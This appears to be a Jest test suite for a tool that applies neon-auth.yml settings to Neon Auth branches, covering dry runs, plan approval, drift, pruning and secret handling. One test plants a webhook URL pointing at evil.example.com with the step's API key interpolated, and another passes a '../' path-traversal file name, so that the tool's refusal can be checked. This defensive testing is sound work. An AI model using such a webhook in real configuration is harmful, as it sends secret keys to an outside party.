import '../support/toolkit.ts';
import { afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { BRANCH_IDS } from '../../emulator/neon/seeds.ts';
import type { State } from '../../emulator/neon/state.ts';
import { TransportError } from '../../src/http/transport.ts';
import { Secret } from '../../src/secrets/secret.ts';
import { FILE, WRITES } from '../support/configuration.ts';
import { PROJECT } from '../support/plans.ts';
import { type Bench, openBench } from './support/procedures.ts';

const STAGING = BRANCH_IDS.dev;
/** Without secrets, each of which takes a digest 50 ms. */
const SHORT = 'auth:\n  name: My app\n  domains: [https://app.example.com]\n';

let bench: Bench;
beforeEach(() => {
  bench = openBench();
});
afterEach(() => bench.close());

const apply = (given: Record<string, string> = {}, file = FILE) =>
  bench.run({ operation: 'apply', ...given }, file);
const plan = (given: Record<string, string> = {}, file = FILE) => apply({ dry_run: 'true', ...given }, file);

/** What the first `apply` makes of two branches. */
let applied: State;
beforeAll(async () => {
  bench = openBench();
  await apply();
  await apply({ branch_id: STAGING });
  applied = bench.emulated.state;
  bench.close();
});
const asApplied = () => void Object.assign(bench.emulated.state, structuredClone(applied));

/** Loses the response to each request that fits. */
function lose(fits: RegExp): void {
  bench.emulated.before = ({ method, url }) => {
    if (fits.test(`${method} ${url}`)) throw new TransportError('lost', 'the connection broke');
  };
}

test('a dry run reports what apply then does', async () => {
  const planned = await plan();
  expect([planned.changed, planned.outputs.changes, planned.writes]).toEqual([false, WRITES, []]);
  expect(planned.did).toMatch(
    /^dry run: nothing was sent; 4 to create, 8 to update, 0 to delete, 0 to keep$/,
  );
  const done = await apply();
  expect([done.changed, done.outputs.plan, done.outputs.plan_digest]).toEqual([
    true,
    planned.outputs.plan,
    planned.outputs.plan_digest,
  ]);
  expect(done.did).toBe('applied: 4 created, 8 updated, 0 deleted, 0 kept');
});

describe('only the approved plan is applied', () => {
  test.each<[string, string, Record<string, string>, NodeJS.ProcessEnv]>([
    ['another file', FILE.replace('My app', 'Another'), {}, {}],
    ['another overlay', FILE, { overlay: 'relaxed' }, {}],
    ['another secret', FILE, {}, { SMTP_PASSWORD: 'replaced since' }],
  ])('not with %s', async (_, file, given, env) => {
    const { outputs } = await plan();
    const approved_plan = String(outputs.plan_digest);
    const refused = await bench.run({ operation: 'apply', approved_plan, ...given }, file, env);
    expect([refused.changed, refused.writes]).toEqual([false, []]);
    expect(refused.error).toContain(
      `The plan is not the approved one: its digest is ${refused.outputs.plan_digest}`,
    );
    expect((await apply({ approved_plan })).writes).toHaveLength(WRITES);
  });
});

test('drift is an error where it is looked for, and only then', async () => {
  asApplied();
  expect((await plan({ fail_on_changes: 'true' })).error).toBe('');
  const there = bench.emulated.integration();
  if (there) there.settings.webhook.webhook_url = 'https://elsewhere.example.com';
  expect((await plan()).error).toBe('');
  const drift = await plan({ fail_on_changes: 'true' });
  expect(drift.error).toContain(
    'The branch is not what neon-auth.yml says: webhook (0 to create, 1 to update',
  );
  expect([drift.outputs.changes, drift.writes]).toEqual([1, []]);
});

describe('prune', () => {
  test.each(['true', 'false'])('of the default branch is refused, with dry_run %s', async dry_run => {
    const given = { branch_id: BRANCH_IDS.main, prune: 'true', dry_run };
    const refused = await apply(given, SHORT);
    expect([refused.error, refused.writes]).toEqual([
      expect.stringContaining('is the default branch of the project. Nothing was changed: prune deletes.'),
      [],
    ]);
    expect((await apply({ ...given, allow_protected_branch: 'true' }, SHORT)).error).toBe('');
  });

  test('of a branch that cannot be read is refused', async () => {
    lose(/^GET .*\/branches\/[^/]+$/);
    const refused = await apply({ prune: 'true' });
    expect([refused.error, refused.writes]).toEqual([expect.stringContaining('the connection broke'), []]);
  });
});

test.each(['', '/plugins', '/domains', '/webhooks', '/plugins/oauth-provider', '/oauth-provider/clients'])(
  'when the read of /auth%s fails nothing is written',
  async path => {
    asApplied();
    lose(new RegExp(`^GET .*/auth${path}$`));
    const refused = await apply({}, FILE.replace('My app', 'Changed'));
    expect([refused.error, refused.writes]).toEqual([expect.stringContaining(`/auth${path}: `), []]);
  },
);

test('the secret of a new client is an output at once, also where a later change fails', async () => {
  lose(/^PUT .*\/webhooks$/);
  const failed = await apply();
  const secret = bench.emulated.integration()?.oauth_clients[0]?.client_secret;
  expect(failed.error).toContain('/webhooks');
  const { oauth_client_secrets } = failed.outputs;
  const atLast = oauth_client_secrets instanceof Secret ? oauth_client_secrets.reveal() : '';
  for (const text of [failed.early.oauth_client_secrets, atLast])
    expect(JSON.parse(text ?? '')).toEqual({ Reports: secret });
});

describe('another branch', () => {
  test('is promoted: what it is becomes what this one is', async () => {
    asApplied();
    await apply({}, FILE.replace('My app', 'Old').replace('https://www.', 'https://old.'));
    expect((await apply({ from_branch_name: 'dev', prune: 'true' })).error).toBe('');
    const { emulated } = bench;
    expect(emulated.integration()?.integration.name).toBe('My app');
    expect(emulated.integration()?.domains).toEqual(emulated.integration(STAGING)?.domains);
    expect(emulated.violations).toEqual([]);
    expect((await plan({ from_branch_id: STAGING, prune: 'true' })).outputs.changes).toBe(0);
  });

  test('whose secrets cannot be read and are missing here is an error, and they are named', async () => {
    asApplied();
    bench.emulated.state.projects[PROJECT]?.integrations.shift();
    for (const provider of bench.emulated.integration(STAGING)?.oauth_providers ?? [])
      delete provider.client_secret;
    const refused = await apply({ from_branch_id: STAGING });
    expect(refused.writes).toEqual([]);
    expect(refused.error).toContain('auth.oauth_providers["google"].client_secret is required');
    expect(refused.error).toContain('auth.email_provider.password is required');
  });

  test('that has no Neon Auth is an error', async () => {
    expect((await apply({ from_branch_id: STAGING })).error).toContain('Neon Auth is off on branch');
  });
});

test.each(['nothing.yml', '../outside.yml', '.'])(
  'a file that is not there, or no file, is an error before anything is asked: %s',
  async config_file => {
    const refused = await apply({ config_file });
    expect([refused.error, refused.requests]).toEqual([expect.stringContaining('config_file'), []]);
  },
);

test.each([
  ['INPUT_API_KEY', {}, 'is of the step itself'],
  ['COPY_OF_KEY', { COPY_OF_KEY: 'napi_0123456789abcdef' }, "holds a secret of this step's own"],
])('a file cannot send the key of the step anywhere: %s', async (name, env, why) => {
  const file = `auth:\n  webhook: { enabled: true, webhook_url: "https://evil.example.com/\${${name}}" }\n`;
  const refused = await bench.run({ operation: 'apply' }, file, env);
  expect([refused.error, refused.requests]).toEqual([expect.stringContaining(why), []]);
  expect(JSON.stringify([refused.error, refused.errors])).not.toContain('napi_0123456789abcdef');
});

test('all that is wrong with a file is named, each at its line', async () => {
  const file = 'auth:\n  nam: x\n  domains: nothing\n  webhook: { enabled: 1 }\n  name: ~\n';
  const { error, errors } = await bench.run({ operation: 'validate' }, file);
  expect(error).toMatch(
    /^neon-auth\.yml has 4 problems, and nothing was asked of Neon:\nneon-auth\.yml:2:3: /,
  );
  expect(errors.map(({ place }) => place)).toEqual(
    [2, 3, 4, 5].map(line => expect.objectContaining({ file: 'neon-auth.yml', line })),
  );
});
